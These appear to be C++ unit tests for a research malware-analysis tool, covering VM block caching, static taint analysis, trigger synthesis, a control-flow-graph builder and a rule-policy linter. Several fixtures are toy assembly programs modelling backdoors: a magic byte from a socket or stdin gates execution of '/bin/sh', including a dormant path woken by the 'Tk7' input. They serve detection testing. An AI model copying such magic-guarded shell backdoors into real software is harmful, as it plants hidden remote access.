    // Run partway into the loop so blocks are cached and hot.
    uint64_t n = 0;
    StepResult r = m.run(30, n);
    ASSERT_EQ(r.kind, StepKind::Ok);
    uint64_t invs = m.stats().blockCacheInvalidations;

    // Mapping a new image mid-run changes the address space: every
    // cached block (holding image pointers) must be dropped.
    Asm so("/t/lib.so", /*shared_object=*/true);
    so.label("fn");
    so.ret();
    m.loadImage(so.build(), 2);
    EXPECT_EQ(m.stats().blockCacheInvalidations, invs + 1);

    // Execution resumes correctly on re-decoded blocks.
    runToHalt(m);
    EXPECT_EQ(m.reg(Reg::Ecx), 40u);
}

TEST(BlockCache, ResetForExecInvalidates)
{
    TagStore tags;
    Machine m(tags);
    loadAt(m, makeLoopImage(10));
    runToHalt(m);
    EXPECT_GT(m.stats().blockCacheHits, 0u);
    uint64_t invs = m.stats().blockCacheInvalidations;

    // execve: images are gone, so cached blocks must be too —
    // stale ones would point into freed text and the old mapping.
    m.resetForExec();
    EXPECT_EQ(m.stats().blockCacheInvalidations, invs + 1);
    EXPECT_TRUE(m.images().empty());

    // The machine re-runs a fresh executable correctly afterwards.
    loadAt(m, makeLoopImage(20));
    runToHalt(m);
    EXPECT_EQ(m.reg(Reg::Ecx), 20u);
}

namespace
{

struct CountingInstrumentor : Instrumentor
{
    int bbs = 0;
    int insns = 0;
    int images = 0;
    int routines = 0;
    std::vector<uint32_t> bbPcs;

    void
    imageLoaded(Machine &, const LoadedImage &) override
    {
        ++images;
    }
    void
    basicBlock(Machine &, uint32_t pc) override
    {
        ++bbs;
        bbPcs.push_back(pc);
    }
    bool wantsInstructions() const override { return true; }
    void
    instruction(Machine &, const Instruction &, uint32_t) override
    {
        ++insns;
    }
    void
    routineEnter(Machine &, uint32_t) override
    {
        ++routines;
    }
};

} // namespace

TEST(Instrumentation, CallbacksFire)
{
    TagStore tags;
    Machine m(tags);
    CountingInstrumentor ins;
    m.setInstrumentor(&ins);

    Asm a("/t/instr");
    a.movi(Reg::Ecx, 0);        // BB 1
    a.label("loop");            // BB 2 (jump target)
    a.addi(Reg::Ecx, 1);
    a.cmpi(Reg::Ecx, 3);
    a.jnz("loop");
    a.call("fn");               // BB 3
    a.halt();
    a.label("fn");              // BB 4
    a.ret();
    loadAt(m, a.build());
    runToHalt(m);

    EXPECT_EQ(ins.images, 1);
    EXPECT_EQ(ins.routines, 1);
    // BBs: the entry block runs through the first jnz (a label is
    // not a block boundary on fall-through), then each loop
    // back-edge starts a block (×2), then the call block, the
    // routine body, and the post-call halt block.
    EXPECT_EQ(ins.bbs, 6);
    EXPECT_EQ((uint64_t)ins.insns, m.stats().instructions);
}

int
main(int argc, char **argv)
{
    ::testing::InitGoogleTest(&argc, argv);
    return RUN_ALL_TESTS();
}
