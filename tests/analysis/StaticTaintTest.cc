/**
 * @file
 * Tests for the interprocedural static taint engine and the
 * trigger-condition synthesis pass:
 *
 *  - the constraint evaluator (satisfiable / unsatisfiable /
 *    masked and arithmetic chains, 32-bit semantics);
 *  - per-function summary construction and interprocedural flow;
 *  - the summary engine against the naive exhaustive-path oracle
 *    on acyclic programs (differential);
 *  - trigger synthesis end to end: the "updated" daemon's magic
 *    header is recovered as the "Tk7" witness, fed back to the
 *    guest, and fires the dormant exec path;
 *  - the corpus-wide golden sweep: trojaned scenarios carry at
 *    least one taint-path / trigger-hypothesis finding, benign
 *    scenarios carry none at MEDIUM or above (false-positive
 *    guard).
 */

#include <algorithm>
#include <set>
#include <string>
#include <tuple>

#include <gtest/gtest.h>

#include "analysis/Analyzer.hh"
#include "analysis/Cfg.hh"
#include "analysis/Constraint.hh"
#include "analysis/Taint.hh"
#include "analysis/Trigger.hh"
#include "vm/TextAsm.hh"
#include "workloads/Exploits.hh"
#include "workloads/Macro.hh"
#include "workloads/Micro.hh"
#include "workloads/Trusted.hh"

namespace hth
{
namespace
{

using analysis::CmpOp;
using analysis::Constraint;
using analysis::Finding;
using analysis::Kind;
using analysis::StaticReport;
using analysis::SymExpr;
using analysis::SymOp;
using analysis::TaintResult;
using analysis::TaintSink;
using analysis::TaintStrategy;
using analysis::TriggerResult;
using workloads::runScenario;
using workloads::Scenario;
using workloads::ScenarioResult;

analysis::Cfg
cfgOf(const std::string &src)
{
    return analysis::buildCfg(*vm::assemble("/test/prog", src));
}

Constraint
makeConstraint(int slot, std::vector<SymOp> ops, CmpOp op,
               uint32_t rhs)
{
    Constraint c;
    c.expr.slot = slot;
    c.expr.ops = std::move(ops);
    c.op = op;
    c.rhs = rhs;
    return c;
}

// ---------------------------------------------------------------
// Constraint evaluator
// ---------------------------------------------------------------

TEST(ConstraintSolver, XorChainIsSatisfiableAndSelective)
{
    // (in[0] ^ 0x5a) == 0x0e  =>  in[0] == 'T'
    auto r = analysis::solveConstraints({makeConstraint(
        0, {{SymOp::K::Xor, 0x5a}}, CmpOp::Eq, 0x0e)});
    EXPECT_TRUE(r.satisfiable);
    EXPECT_TRUE(r.selective);
    ASSERT_EQ(r.slots.size(), 1u);
    ASSERT_TRUE(r.slots[0].value.has_value());
    EXPECT_EQ(*r.slots[0].value, 'T');
    EXPECT_EQ(r.slots[0].satisfyingCount, 1u);
    EXPECT_GT(r.iterations, 0u);
}

TEST(ConstraintSolver, ContradictionIsUnsatisfiable)
{
    auto r = analysis::solveConstraints(
        {makeConstraint(0, {}, CmpOp::Eq, 1),
         makeConstraint(0, {}, CmpOp::Eq, 2)});
    EXPECT_FALSE(r.satisfiable);
}

TEST(ConstraintSolver, ArithmeticIs32BitNotByteWrapped)
{
    // in[0] + 200 ranges over [200, 455] in 32-bit arithmetic:
    // there is no wrap back to 100 (a byte-wrapped solver would
    // wrongly report in[0] == 156).
    auto r = analysis::solveConstraints(
        {makeConstraint(0, {{SymOp::K::Add, 200}}, CmpOp::Eq, 100)});
    EXPECT_FALSE(r.satisfiable);
}

TEST(ConstraintSolver, MaskedCompareCountsAllSatisfyingBytes)
{
    // (in[0] & 0x80) == 0x80: half the byte space satisfies it, so
    // it is satisfiable but far too unselective to be a trigger.
    auto r = analysis::solveConstraints({makeConstraint(
        0, {{SymOp::K::And, 0x80}}, CmpOp::Eq, 0x80)});
    EXPECT_TRUE(r.satisfiable);
    EXPECT_FALSE(r.selective);
    ASSERT_EQ(r.slots.size(), 1u);
    EXPECT_EQ(r.slots[0].satisfyingCount, 128u);
}

TEST(ConstraintSolver, ShiftsMaskTheCountLikeTheMachine)
{
    // Machine.cc masks shift counts with & 31, so in[0] << 32 is
    // in[0] << 0: satisfied exactly by in[0] == 7.
    auto r = analysis::solveConstraints(
        {makeConstraint(0, {{SymOp::K::Shl, 32}}, CmpOp::Eq, 7)});
    EXPECT_TRUE(r.satisfiable);
    ASSERT_TRUE(r.slots[0].value.has_value());
    EXPECT_EQ(*r.slots[0].value, 7);
}

// ---------------------------------------------------------------
// Interprocedural summaries
// ---------------------------------------------------------------

// Input flows through a callee into a caller-side sink: get_input
// reads stdin into buf; main writes buf to a hard-coded file.
const char *const INTERPROC = R"(
    .entry main
    .space buf 16
    .data outfile "logfile"
    main:
        call get_input
        movi eax, 8
        lea  ebx, outfile
        int80
        mov  ebp, eax
        movi eax, 4
        mov  ebx, ebp
        lea  ecx, buf
        movi edx, 16
        int80
        movi eax, 1
        movi ebx, 0
        int80
    get_input:
        movi eax, 3
        movi ebx, 0
        lea  ecx, buf
        movi edx, 16
        int80
        ret
)";

TEST(TaintSummary, StdinReachesFileSinkAcrossCall)
{
    TaintResult r =
        analysis::runTaint(cfgOf(INTERPROC), TaintStrategy::Summary);
    ASSERT_FALSE(r.sinks.empty());
    const TaintSink *write = nullptr;
    for (const TaintSink &s : r.sinks)
        if (s.syscall == "SYS_write")
            write = &s;
    ASSERT_NE(write, nullptr);
    EXPECT_TRUE(write->sourceMask & analysis::T_STDIN)
        << write->detail;
    EXPECT_EQ(write->warn, 3);
    // Both main and get_input were summarized.
    EXPECT_GE(r.stats.functionsSummarized, 2u);
}

TEST(TaintSummary, SinksAreDeterministicallyOrdered)
{
    TaintResult r =
        analysis::runTaint(cfgOf(INTERPROC), TaintStrategy::Summary);
    EXPECT_TRUE(std::is_sorted(
        r.sinks.begin(), r.sinks.end(),
        [](const TaintSink &a, const TaintSink &b) {
            return std::tie(a.address, a.syscall) <
                   std::tie(b.address, b.syscall);
        }));
}

// ---------------------------------------------------------------
// Differential: summary engine vs naive exhaustive-path oracle
// ---------------------------------------------------------------

/** (address, syscall, warn) triples for whole-set comparison. */
std::set<std::tuple<uint32_t, std::string, int>>
sinkSet(const TaintResult &r)
{
    std::set<std::tuple<uint32_t, std::string, int>> out;
    for (const TaintSink &s : r.sinks)
        out.insert({s.address, s.syscall, s.warn});
    return out;
}

void
expectStrategiesAgree(const analysis::Cfg &cfg, const char *what)
{
    TaintResult summary =
        analysis::runTaint(cfg, TaintStrategy::Summary);
    TaintResult naive =
        analysis::runTaint(cfg, TaintStrategy::NaivePaths);
    EXPECT_EQ(sinkSet(summary), sinkSet(naive)) << what;
    EXPECT_GT(naive.stats.pathsExplored, 0u) << what;
}

TEST(TaintDifferential, SummaryMatchesNaiveOnAcyclicPrograms)
{
    expectStrategiesAgree(cfgOf(INTERPROC), "interproc");

    expectStrategiesAgree(cfgOf(R"(
        .entry main
        .space buf 8
        .data sh "/bin/sh"
        main:
            movi eax, 3
            movi ebx, 0
            lea  ecx, buf
            movi edx, 8
            int80
            lea  esi, buf
            loadb eax, [esi]
            cmpi eax, 120
            jnz  done
            movi eax, 11
            lea  ebx, sh
            int80
        done:
            movi eax, 1
            movi ebx, 0
            int80
    )"),
                          "guarded execve");

    expectStrategiesAgree(
        analysis::buildCfg(*workloads::makeUpdatedImage()),
        "updated daemon");
}

// ---------------------------------------------------------------
// Trigger synthesis
// ---------------------------------------------------------------

TEST(TriggerSynthesis, UpdatedDaemonYieldsTk7Witness)
{
    TriggerResult r = analysis::synthesizeTriggers(
        analysis::buildCfg(*workloads::makeUpdatedImage()));
    ASSERT_EQ(r.hypotheses.size(), 1u);
    const auto &h = r.hypotheses[0];
    EXPECT_EQ(h.syscall, "SYS_execve");
    EXPECT_EQ(h.warn, 3);
    EXPECT_EQ(h.origin, "stdin");
    ASSERT_EQ(h.witness.size(), 3u);
    EXPECT_EQ(std::string(h.witness.begin(), h.witness.end()), "Tk7");
    // One predicate per guard byte, one dominating branch per guard.
    EXPECT_EQ(h.predicates.size(), 3u);
    EXPECT_EQ(h.sliceGuards.size(), 3u);
    EXPECT_TRUE(
        std::is_sorted(h.sliceGuards.begin(), h.sliceGuards.end()));
    EXPECT_GT(r.solverIterations, 0u);
    EXPECT_GT(r.pathsExplored, 0u);
}

TEST(TriggerSynthesis, DisequalityGuardIsNotSelective)
{
    // The payload fires for every byte except 'c' — 255 of 256
    // inputs. That is ordinary command dispatch, not a trigger.
    TriggerResult r = analysis::synthesizeTriggers(cfgOf(R"(
        .entry main
        .space buf 8
        .data sh "/bin/sh"
        main:
            movi eax, 3
            movi ebx, 0
            lea  ecx, buf
            movi edx, 8
            int80
            lea  esi, buf
            loadb eax, [esi]
            cmpi eax, 99
            jz   skip
            movi eax, 11
            lea  ebx, sh
            int80
        skip:
            movi eax, 1
            movi ebx, 0
            int80
    )"));
    EXPECT_TRUE(r.hypotheses.empty());
}

TEST(TriggerSynthesis, EqualityGuardedExecveIsSynthesized)
{
    TriggerResult r = analysis::synthesizeTriggers(cfgOf(R"(
        .entry main
        .space buf 8
        .data sh "/bin/sh"
        main:
            movi eax, 3
            movi ebx, 0
            lea  ecx, buf
            movi edx, 8
            int80
            lea  esi, buf
            loadb eax, [esi]
            cmpi eax, 120
            jnz  skip
            movi eax, 11
            lea  ebx, sh
            int80
        skip:
            movi eax, 1
            movi ebx, 0
            int80
    )"));
    ASSERT_EQ(r.hypotheses.size(), 1u);
    ASSERT_EQ(r.hypotheses[0].witness.size(), 1u);
    EXPECT_EQ(r.hypotheses[0].witness[0], 'x');
}

// ---------------------------------------------------------------
// Report integration: ordering and finding kinds
// ---------------------------------------------------------------

TEST(ReportOrdering, FindingsSortByAddressThenKind)
{
    StaticReport report =
        analysis::analyzeImage(*workloads::makeUpdatedImage());
    EXPECT_TRUE(std::is_sorted(
        report.findings.begin(), report.findings.end(),
        [](const Finding &a, const Finding &b) {
            return std::tie(a.address, a.kind) <
                   std::tie(b.address, b.kind);
        }));
    bool trigger = false;
    for (const Finding &f : report.findings)
        trigger |= f.kind == Kind::TriggerHypothesis;
    EXPECT_TRUE(trigger);
    EXPECT_GT(report.stats.functionsSummarized, 0u);
    EXPECT_GT(report.stats.solverIterations, 0u);
}

// ---------------------------------------------------------------
// Corpus golden sweep
// ---------------------------------------------------------------

std::vector<Scenario>
allScenarios()
{
    std::vector<Scenario> all;
    for (auto &s : workloads::executionFlowScenarios())
        all.push_back(std::move(s));
    for (auto &s : workloads::resourceAbuseScenarios())
        all.push_back(std::move(s));
    for (auto &s : workloads::infoFlowScenarios())
        all.push_back(std::move(s));
    for (auto &s : workloads::trustedProgramScenarios())
        all.push_back(std::move(s));
    for (auto &s : workloads::exploitScenarios())
        all.push_back(std::move(s));
    for (auto &s : workloads::macroScenarios())
        all.push_back(std::move(s));
    return all;
}

size_t
taintFindings(const Report &report, int min_level)
{
    size_t n = 0;
    for (const auto &f : report.staticFindings)
        if ((f.kind == "TAINT_PATH" ||
             f.kind == "TRIGGER_HYPOTHESIS") &&
            f.level >= min_level)
            ++n;
    return n;
}

TEST(CorpusGolden, TrojanedImagesCarryTaintOrTriggerFindings)
{
    // Purely behavioural trojans (fork bombs, resource abusers)
    // have no input-to-sink flow for the static pass to find; the
    // dynamic monitor owns those. xeyes warns on resource
    // provenance alone (hard-coded remote display), also not a
    // data flow.
    const std::set<std::string> behavioural = {
        "fork: loop forker", "fork: tree forker",
        "mw2.2.1 (fork flood)", "superforker", "xeyes"};
    for (const Scenario &s : allScenarios()) {
        if (!s.expectMalicious || behavioural.count(s.id))
            continue;
        ScenarioResult r = runScenario(s);
        EXPECT_GE(taintFindings(r.report, 0), 1u)
            << s.id << ": trojaned image has no static taint-path"
            << " or trigger-hypothesis finding";
    }
}

TEST(CorpusGolden, BenignImagesHaveNoMediumTaintFindings)
{
    for (const Scenario &s : allScenarios()) {
        // "updated (dormant)" is the one intentionally-dirty benign
        // run: same trojaned image, benign input.
        if (s.expectMalicious || s.disableTaint ||
            s.id == "updated (dormant)")
            continue;
        ScenarioResult r = runScenario(s);
        EXPECT_EQ(taintFindings(r.report, 2), 0u)
            << s.id << ": benign image flagged at MEDIUM or above";
    }
}

TEST(CorpusGolden, PureTrustedProgramsAreCompletelyClean)
{
    const std::set<std::string> pure = {"ls",   "column", "awk",
                                        "pico", "tail",   "diff",
                                        "wc",   "bc"};
    for (const Scenario &s : allScenarios()) {
        if (!pure.count(s.id))
            continue;
        ScenarioResult r = runScenario(s);
        EXPECT_EQ(taintFindings(r.report, 0), 0u)
            << s.id << ": trusted program has taint findings";
    }
}

// ---------------------------------------------------------------
// End to end: the synthesized witness wakes the dormant path
// ---------------------------------------------------------------

TEST(TriggerEndToEnd, WitnessFedToGuestFiresDormantPath)
{
    Scenario dormant;
    for (Scenario &s : workloads::exploitScenarios())
        if (s.id == "updated (dormant)")
            dormant = std::move(s);
    ASSERT_FALSE(dormant.id.empty());

    // Benign input: the backdoor stays dormant, no warning fires,
    // but the static pass reports the trigger hypothesis.
    ScenarioResult quiet = runScenario(dormant);
    EXPECT_FALSE(quiet.flagged);
    std::string witness;
    for (const auto &f : quiet.report.staticFindings)
        if (f.kind == "TRIGGER_HYPOTHESIS")
            witness = f.witness;
    ASSERT_FALSE(witness.empty());
    EXPECT_EQ(witness, "Tk7");

    // Feed the witness back in: the dormant exec path executes and
    // the hybrid static+dynamic rule raises HIGH.
    Scenario triggered = dormant;
    triggered.stdinData = witness;
    triggered.expectMalicious = true;
    ScenarioResult fired = runScenario(triggered);
    EXPECT_TRUE(fired.flagged);
    EXPECT_GE((int)fired.report.maxSeverity(),
              (int)secpert::Severity::High);
    EXPECT_NE(fired.report.transcript.find("confirmed by a live exec"),
              std::string::npos);
}

} // namespace
} // namespace hth

int
main(int argc, char **argv)
{
    ::testing::InitGoogleTest(&argc, argv);
    return RUN_ALL_TESTS();
}
