/**
 * @file
 * Tests for the static pre-screening subsystem: the CFG builder, the
 * dataflow analyzer, the policy linter and the hybrid
 * static+dynamic rules wired through Secpert.
 */

#include <algorithm>

#include <gtest/gtest.h>

#include "analysis/Analyzer.hh"
#include "analysis/Cfg.hh"
#include "analysis/Lint.hh"
#include "os/Syscalls.hh"
#include "secpert/Policy.hh"
#include "secpert/Secpert.hh"
#include "vm/TextAsm.hh"
#include "workloads/Exploits.hh"
#include "workloads/SyntheticPolicy.hh"
#include "workloads/GuestLib.hh"
#include "workloads/Macro.hh"
#include "workloads/Micro.hh"
#include "workloads/Trusted.hh"

namespace hth
{
namespace
{

using analysis::Cfg;
using analysis::Finding;
using analysis::Kind;
using analysis::Level;
using analysis::LintIssue;
using analysis::StaticReport;
using vm::Reg;
using workloads::Gasm;
using workloads::Scenario;

Cfg
cfgOf(const std::string &src)
{
    return analysis::buildCfg(*vm::assemble("/test/prog", src));
}

StaticReport
analyze(const std::string &src)
{
    return analysis::analyzeImage(*vm::assemble("/test/prog", src));
}

const Finding *
findingOf(const StaticReport &r, Kind kind)
{
    for (const Finding &f : r.findings)
        if (f.kind == kind)
            return &f;
    return nullptr;
}

// ---------------------------------------------------------------
// CFG construction
// ---------------------------------------------------------------

TEST(Cfg, ConditionalSplitsBlocksAndFallsThrough)
{
    Cfg cfg = cfgOf(R"(
        .entry main
        main:
            movi eax, 1
            cmpi eax, 0
            jz   done
            addi eax, 1
        done:
            halt
    )");
    // Three blocks: [main..jz], the fallthrough addi, and done.
    ASSERT_EQ(cfg.blocks.size(), 3u);
    const analysis::BasicBlock &head = cfg.blocks.at(0);
    EXPECT_EQ(head.end, 12u);
    ASSERT_EQ(head.succs.size(), 2u);
    // Branch target (done @16) and fallthrough (addi @12).
    EXPECT_NE(std::find(head.succs.begin(), head.succs.end(), 16u),
              head.succs.end());
    EXPECT_NE(std::find(head.succs.begin(), head.succs.end(), 12u),
              head.succs.end());

    const analysis::BasicBlock &done = cfg.blocks.at(16);
    EXPECT_EQ(done.preds.size(), 2u);
    for (const auto &[start, bb] : cfg.blocks)
        EXPECT_TRUE(bb.reachable) << "block @" << start;
}

TEST(Cfg, LoopBackEdgePointsAtOwnBlock)
{
    Cfg cfg = cfgOf(R"(
        .entry main
        main:
            movi ecx, 3
        loop:
            addi ecx, -1
            cmpi ecx, 0
            jnz  loop
            halt
    )");
    ASSERT_EQ(cfg.blocks.size(), 3u);
    const analysis::BasicBlock &loop = cfg.blocks.at(4);
    EXPECT_NE(std::find(loop.succs.begin(), loop.succs.end(), 4u),
              loop.succs.end());
    EXPECT_NE(std::find(loop.preds.begin(), loop.preds.end(), 4u),
              loop.preds.end());
}

TEST(Cfg, UnreachableBlockIsMarked)
{
    Cfg cfg = cfgOf(R"(
        .entry main
        main:
            movi eax, 1
            jmp  done
        dead:
            movi eax, 2
        done:
            halt
    )");
    ASSERT_EQ(cfg.blocks.size(), 3u);
    EXPECT_TRUE(cfg.blocks.at(0).reachable);
    EXPECT_FALSE(cfg.blocks.at(8).reachable);
    EXPECT_TRUE(cfg.blocks.at(12).reachable);
    EXPECT_EQ(cfg.reachableBlocks(), 2u);
}

TEST(Cfg, ImportCallRecordedWithFallthrough)
{
    Cfg cfg = cfgOf(R"(
        .entry main
        main:
            callimport getenv
            halt
    )");
    ASSERT_EQ(cfg.externCalls.size(), 1u);
    EXPECT_EQ(cfg.externCalls[0].name, "getenv");
    EXPECT_FALSE(cfg.externCalls[0].native);
    EXPECT_EQ(cfg.externCalls[0].site, 0u);
    // The CallSym ends its block; execution resumes at halt.
    const analysis::BasicBlock &head = cfg.blocks.at(0);
    ASSERT_EQ(head.succs.size(), 1u);
    EXPECT_EQ(head.succs[0], 4u);
}

TEST(Cfg, DirectCallBuildsCallGraphEdge)
{
    Cfg cfg = cfgOf(R"(
        .entry main
        main:
            call fn
            halt
        fn:
            ret
    )");
    ASSERT_EQ(cfg.calls.size(), 1u);
    EXPECT_EQ(cfg.calls[0].site, 0u);
    EXPECT_EQ(cfg.calls[0].target, 8u);
    // Reachability follows the call edge.
    EXPECT_TRUE(cfg.blocks.at(8).reachable);
}

// ---------------------------------------------------------------
// Dataflow analyzer
// ---------------------------------------------------------------

TEST(Analyzer, MagicGuardBackdoorFlaggedAtMedium)
{
    Gasm a("/test/backdoor");
    a.dataString("prog", "/bin/sh");
    a.dataSpace("buf", 32);
    a.label("main");
    a.entry("main");
    a.sockCreate();
    a.mov(Reg::Ebp, Reg::Eax);
    a.leaSym(Reg::Edx, "buf");
    a.sockRecv(Reg::Ebp, Reg::Edx, 32);
    a.leaSym(Reg::Esi, "buf");
    a.loadb(Reg::Eax, Reg::Esi, 0);
    a.cmpi(Reg::Eax, 'k');
    a.jnz("refuse");
    a.execveSym("prog");
    a.label("refuse");
    a.exit(0);

    StaticReport r = analysis::analyzeImage(*a.build());
    const Finding *f = findingOf(r, Kind::MagicGuard);
    ASSERT_NE(f, nullptr) << analysis::reportToString(r);
    EXPECT_EQ(f->level, Level::Medium);
    EXPECT_NE(f->detail.find("'k'"), std::string::npos) << f->detail;
    EXPECT_NE(f->detail.find("SYS_execve"), std::string::npos)
        << f->detail;

    // The hard-coded execve argument is also recovered.
    const Finding *s = findingOf(r, Kind::StaticSyscall);
    ASSERT_NE(s, nullptr);
    EXPECT_EQ(s->resource, "/bin/sh");
}

TEST(Analyzer, CompareOfNonNetworkInputIsNotAMagicGuard)
{
    // Same shape, but the compared byte comes from a read(2) of
    // stdin, not a socket recv — e.g. make checking its input.
    Gasm a("/test/clean");
    a.dataString("prog", "/bin/true");
    a.dataSpace("buf", 16);
    a.label("main");
    a.entry("main");
    a.movi(Reg::Ebx, 0);
    a.leaSym(Reg::Ecx, "buf");
    a.movi(Reg::Edx, 16);
    a.sysc(os::NR_read);
    a.leaSym(Reg::Esi, "buf");
    a.loadb(Reg::Eax, Reg::Esi, 0);
    a.cmpi(Reg::Eax, 'c');
    a.jz("skip");
    a.execveSym("prog");
    a.label("skip");
    a.exit(0);

    StaticReport r = analysis::analyzeImage(*a.build());
    EXPECT_EQ(findingOf(r, Kind::MagicGuard), nullptr)
        << analysis::reportToString(r);
    EXPECT_FALSE(r.flagged(Level::Medium))
        << analysis::reportToString(r);
}

TEST(Analyzer, DormantExecveInUnreachableCode)
{
    StaticReport r = analyze(R"(
        .data prog "/bin/sh"
        .entry main
        main:
            movi eax, 99
            halt
        dead:
            movi eax, 11
            lea  ebx, prog
            movi ecx, 0
            int80
    )");
    const Finding *f = findingOf(r, Kind::DormantSyscall);
    ASSERT_NE(f, nullptr) << analysis::reportToString(r);
    EXPECT_EQ(f->level, Level::Medium);
    EXPECT_EQ(f->syscall, "SYS_execve");
    EXPECT_EQ(f->resource, "/bin/sh");
    EXPECT_NE(findingOf(r, Kind::UnreachableCode), nullptr);
}

TEST(Analyzer, StackImbalanceAtRet)
{
    StaticReport r = analyze(R"(
        .entry main
        main:
            call fn
            halt
        fn:
            push eax
            ret
    )");
    const Finding *f = findingOf(r, Kind::StackImbalance);
    ASSERT_NE(f, nullptr) << analysis::reportToString(r);
    EXPECT_EQ(f->level, Level::Low);
}

TEST(Analyzer, BalancedFunctionIsClean)
{
    StaticReport r = analyze(R"(
        .entry main
        main:
            call fn
            halt
        fn:
            push eax
            pop  eax
            ret
    )");
    EXPECT_EQ(findingOf(r, Kind::StackImbalance), nullptr)
        << analysis::reportToString(r);
}

TEST(Analyzer, JumpIntoDataSectionFlagged)
{
    StaticReport r = analyze(R"(
        .data payload "xyz"
        .entry main
        main:
            jmp payload
    )");
    const Finding *f = findingOf(r, Kind::JumpOutOfText);
    ASSERT_NE(f, nullptr) << analysis::reportToString(r);
    EXPECT_EQ(f->level, Level::Medium);
}

TEST(Analyzer, RecoversSyscallNumbersAcrossBlocks)
{
    // The exit(0) syscall number is set before a branch; the int80
    // sits in a later block — constants must survive the join.
    StaticReport r = analyze(R"(
        .entry main
        main:
            movi eax, 1
            movi ebx, 0
            cmpi ebx, 0
            jz   leave
            nop
        leave:
            int80
    )");
    ASSERT_EQ(r.syscalls.size(), 1u);
    EXPECT_EQ(r.syscalls[0].name, "SYS_exit");
}

// ---------------------------------------------------------------
// Policy linter
// ---------------------------------------------------------------

TEST(Lint, UnboundRhsVariableIsError)
{
    auto issues = analysis::lintPolicy(
        "(defrule broken (dummy) => (printout t ?oops crlf))");
    ASSERT_TRUE(analysis::hasLintErrors(issues))
        << analysis::lintToString(issues);
    bool mentioned = false;
    for (const LintIssue &i : issues)
        if (i.isError() &&
            i.message.find("?oops") != std::string::npos)
            mentioned = true;
    EXPECT_TRUE(mentioned) << analysis::lintToString(issues);
}

TEST(Lint, BindOnRhsSatisfiesLaterUses)
{
    auto issues = analysis::lintPolicy(
        "(defrule ok (dummy)\n"
        " => (bind ?n 1) (printout t ?n crlf))");
    EXPECT_FALSE(analysis::hasLintErrors(issues))
        << analysis::lintToString(issues);
}

TEST(Lint, UnknownSlotIsError)
{
    auto issues = analysis::lintPolicy(
        "(deftemplate foo (slot x))\n"
        "(defrule r (foo (y 1)) => (printout t \"hi\" crlf))");
    EXPECT_TRUE(analysis::hasLintErrors(issues))
        << analysis::lintToString(issues);
}

TEST(Lint, UndeclaredTemplateSkipsSlotCheck)
{
    // Rule fragments reference engine-declared templates; without
    // the declarations the slot names must not be flagged.
    auto issues = analysis::lintPolicy(
        "(defrule r (some_template (whatever 1))\n"
        " => (printout t \"hi\" crlf))");
    EXPECT_FALSE(analysis::hasLintErrors(issues))
        << analysis::lintToString(issues);
}

TEST(Lint, ShadowedRuleWarned)
{
    auto issues = analysis::lintPolicy(
        "(deftemplate foo (slot x))\n"
        "(defrule specific (foo (x 1))\n"
        " => (printout t \"a\" crlf))\n"
        "(defrule general (foo (x ?v))\n"
        " => (printout t \"b\" crlf))");
    EXPECT_FALSE(analysis::hasLintErrors(issues))
        << analysis::lintToString(issues);
    bool warned = false;
    for (const LintIssue &i : issues)
        if (!i.isError() && i.construct == "specific" &&
            i.message.find("general") != std::string::npos)
            warned = true;
    EXPECT_TRUE(warned) << analysis::lintToString(issues);
}

TEST(Lint, GuardedGeneralRuleDoesNotShadow)
{
    // The general rule adds a test CE, so it is not strictly more
    // general — no warning.
    auto issues = analysis::lintPolicy(
        "(deftemplate foo (slot x))\n"
        "(defrule specific (foo (x 1))\n"
        " => (printout t \"a\" crlf))\n"
        "(defrule general (foo (x ?v)) (test (> ?v 5))\n"
        " => (printout t \"b\" crlf))");
    for (const LintIssue &i : issues)
        EXPECT_TRUE(i.isError() ||
                    i.message.find("shadow") == std::string::npos)
            << analysis::lintToString(issues);
}

TEST(Lint, CrossProductJoinWarns)
{
    // The middle pattern shares no variable with the first, and a
    // further join follows — the Rete network would multiply the
    // cross product out again.
    auto issues = analysis::lintPolicy(
        "(defrule crossed\n"
        "  (proc (pid ?pid))\n"
        "  (conn (port ?port))\n"
        "  (owner (pid ?pid) (port ?port))\n"
        " => (printout t \"x\" crlf))");
    EXPECT_FALSE(analysis::hasLintErrors(issues))
        << analysis::lintToString(issues);
    bool warned = false;
    for (const LintIssue &i : issues)
        if (!i.isError() && i.construct == "crossed" &&
            i.message.find("cross product") != std::string::npos)
            warned = true;
    EXPECT_TRUE(warned) << analysis::lintToString(issues);
}

TEST(Lint, TrailingDisconnectedJoinIsQuiet)
{
    // A disconnected *last* pattern feeds the agenda directly; the
    // shipped accounting rules end that way on purpose.
    auto issues = analysis::lintPolicy(
        "(defrule tally\n"
        "  (proc (pid ?pid))\n"
        "  (stats (count ?c))\n"
        " => (printout t ?c crlf))");
    EXPECT_TRUE(issues.empty()) << analysis::lintToString(issues);
}

TEST(Lint, FactAddressDoesNotHideCrossProduct)
{
    // A fact address is always freshly bound, so ?s <- cannot link
    // the stats pattern to the joins before it: the mid-LHS cross
    // product is still real and still warned.
    auto issues = analysis::lintPolicy(
        "(defrule linked\n"
        "  (proc (pid ?pid))\n"
        "  ?s <- (stats (count ?c))\n"
        "  (quota (pid ?pid) (limit ?c))\n"
        " => (retract ?s))");
    bool warned = false;
    for (const LintIssue &i : issues)
        if (i.message.find("cross product") != std::string::npos)
            warned = true;
    EXPECT_TRUE(warned) << analysis::lintToString(issues);
}

TEST(Lint, LiteralGuardPatternIsQuiet)
{
    // A literal-only guard fact (the shipped resolution idiom) binds
    // nothing, so it cannot be reordered into a better join — no
    // cross-product warning even mid-LHS.
    auto issues = analysis::lintPolicy(
        "(defrule guarded\n"
        "  (proc (pid ?pid))\n"
        "  ?r <- (resolution (status RESOLVE))\n"
        "  (quota (pid ?pid))\n"
        " => (retract ?r))");
    EXPECT_TRUE(issues.empty()) << analysis::lintToString(issues);
}

TEST(Lint, NegationFirstBoundVariableWarnsOnLaterPattern)
{
    auto issues = analysis::lintPolicy(
        "(defrule negbound\n"
        "  (proc (pid ?pid))\n"
        "  (not (blocked (user ?u)))\n"
        "  (session (user ?u))\n"
        " => (printout t \"x\" crlf))");
    EXPECT_FALSE(analysis::hasLintErrors(issues))
        << analysis::lintToString(issues);
    bool warned = false;
    for (const LintIssue &i : issues)
        if (!i.isError() && i.construct == "negbound" &&
            i.message.find("?u") != std::string::npos &&
            i.message.find("negated") != std::string::npos)
            warned = true;
    EXPECT_TRUE(warned) << analysis::lintToString(issues);
}

TEST(Lint, NegationFirstBoundVariableWarnsOnRhsUse)
{
    auto issues = analysis::lintPolicy(
        "(defrule negrhs\n"
        "  (proc (pid ?pid))\n"
        "  (not (blocked (user ?u)))\n"
        " => (printout t ?u crlf))");
